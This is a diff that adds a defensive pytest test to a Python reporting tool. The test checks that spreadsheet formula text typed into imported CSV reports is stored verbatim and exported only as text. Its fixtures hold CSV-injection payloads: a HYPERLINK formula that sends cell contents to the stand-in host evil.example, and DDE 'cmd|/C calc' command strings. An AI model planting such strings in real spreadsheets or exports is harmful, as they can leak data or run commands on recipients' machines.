@@ -7,10 +7,11 @@ from __future__ import annotations
 
 import asyncio
 import csv
+import io
 from pathlib import Path
 
 from openpyxl import load_workbook
-from sqlalchemy import update
+from sqlalchemy import select, update
 from sqlmodel import col
 from typer.testing import CliRunner
 
@@ -128,3 +129,129 @@ def test_the_invite_csv_neutralises_unit_names(cli: tuple[CliRunner, str], tmp_p
     names = {row[0]: row[1] for row in rows[1:]}
     assert names["X1"] == "'=cmd|'/C calc'!A0"
     assert not [f for row in rows for f in row if f.startswith(FORMULA_START)]
+
+
+# -- the import path: text typed on a paper report --------------------------------------------
+
+TYPED = {  # (first paper, corrected paper) presenters, as typed in the cells
+    "TU": ('=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")', "+Đ/c Hùng, Bí thư"),
+    "H1": ("@SUM(1+1)*cmd|' /C calc'!A0", "-Đ/c Lan"),
+}
+
+
+def _paper(path: Path, column: int) -> Path:
+    with path.open("w", encoding="utf-8", newline="") as handle:
+        out = csv.writer(handle)
+        out.writerow(
+            ["Mã đơn vị", "session_date", "duration_halfdays", "attended", "essays", "presenter"]
+        )
+        out.writerow(["TU", "5/6/2016", 2, 48, 45, TYPED["TU"][column]])
+        out.writerow(["H1", "28/7/2016", 2, 38, 36, TYPED["H1"][column]])
+    return path
+
+
+def test_formula_text_typed_on_paper_is_stored_as_typed_and_every_export_keeps_it_text(
+    database_url: str, tmp_path: Path
+) -> None:
+    """`reports import` stores "=HYPERLINK(...)", "@SUM(...)", "+...", "-..." exactly as typed;
+    `cadrebot export` (XLSX, CSV) and the /xuat workbook show it as text, never a formula."""
+    from bot.core.jobs import run_job
+    from bot.core.turn import Runtime
+    from storage.models import Report, ReportVersion, metadata
+    from storage.settings import Settings
+    from tests.test_exports_cli import _invoke
+    from tests.test_report_import import build_world
+
+    async def build() -> tuple[int, int]:
+        db = Database.from_url(database_url)
+        try:
+            async with db.engine.begin() as conn:
+                await conn.run_sync(metadata.create_all)
+            async with db.write() as session:
+                world = await build_world(session)
+                return world.admin_id, world.campaign_id
+        finally:
+            await db.dispose()
+
+    admin_id, campaign_id = asyncio.run(build())
+    admin = str(admin_id)
+    for column, counts in ((0, "2 báo cáo mới, 0"), (1, "0 báo cáo mới, 2 báo cáo cập nhật")):
+        paper = _paper(tmp_path / f"giay{column}.csv", column)
+        command = ["reports", "import", str(paper), "--deliverable", "hoi_nghi", "--as", admin]
+        code, stdout, stderr = _invoke(database_url, *command)
+        assert code == 0, stdout + stderr
+        assert counts in stdout
+
+    async def stored() -> dict[str, list[object]]:
+        db = Database.from_url(database_url)
+        try:
+            async with db.read() as session:
+                rows = await session.execute(
+                    select(col(Unit.code), col(ReportVersion.answers))
+                    .join(Report, col(Report.unit_id) == col(Unit.id))
+                    .join(ReportVersion, col(ReportVersion.report_id) == col(Report.id))
+                    .order_by(col(ReportVersion.version))
+                )
+                found: dict[str, list[object]] = {}
+                for code, answers in rows.all():
+                    found.setdefault(code, []).append(answers["presenter"])
+                return found
+        finally:
+            await db.dispose()
+
+    assert asyncio.run(stored()) == {code: list(texts) for code, texts in TYPED.items()}
+
+    typed = {text for texts in TYPED.values() for text in texts}
+    workbooks = []
+    for name in ("cli.xlsx", "cli.csv"):
+        out = tmp_path / name
+        fmt = name.rsplit(".", 1)[1]
+        command = ["export", "--campaign", "13-KH/TU", "--format", fmt, "--output", str(out)]
+        code, stdout, stderr = _invoke(database_url, *command)
+        assert code == 0, stdout + stderr
+        if fmt == "xlsx":
+            workbooks.append(out.read_bytes())
+        else:
+            with out.open(encoding="utf-8-sig", newline="") as handle:
+                fields = [field for row in csv.reader(handle) for field in row]
+            assert not [f for f in fields if f.startswith(FORMULA_START)]
+            assert not typed & set(fields)  # a typed text there would be neutralised ('=...)
+
+    async def xuat() -> bytes:
+        db = Database.from_url(database_url)
+        try:
+            runtime = Runtime(db=db, clock=None, settings=Settings(_env_file=None))  # type: ignore[arg-type]
+            entry = {
+                "job": "export",
+                # After the imports, which the command line stamps with the system clock.
+                "at": "2099-01-01T00:00:00+00:00",
+                "params": {
+                    "campaign_id": campaign_id,
+                    "reference": "13-KH/TU",
+                    "name": "Học tập",
+                    "timezone": "Asia/Ho_Chi_Minh",
+                    "root_path": None,
+                    "where": "toàn bộ",
+                    "filename": "13-KH-TU_toan-bo.xlsx",
+                },
+            }
+            [output] = await run_job(runtime, entry)
+            return bytes(output.data)  # type: ignore[union-attr]
+        finally:
+            await db.dispose()
+
+    workbooks.append(asyncio.run(xuat()))
+    for data in workbooks:  # `cadrebot export` and /xuat
+        workbook = load_workbook(io.BytesIO(data))
+        seen: dict[str, str] = {}
+        try:
+            for sheet in workbook.worksheets:
+                for row in sheet.iter_rows():
+                    for cell in row:
+                        assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                        if isinstance(cell.value, str):
+                            seen[cell.value] = sheet.title
+        finally:
+            workbook.close()
+        # The corrections sheet shows each presenter, old and new, as typed.
+        assert {text: seen.get(text) for text in typed} == dict.fromkeys(typed, "Lịch sử thay đổi")
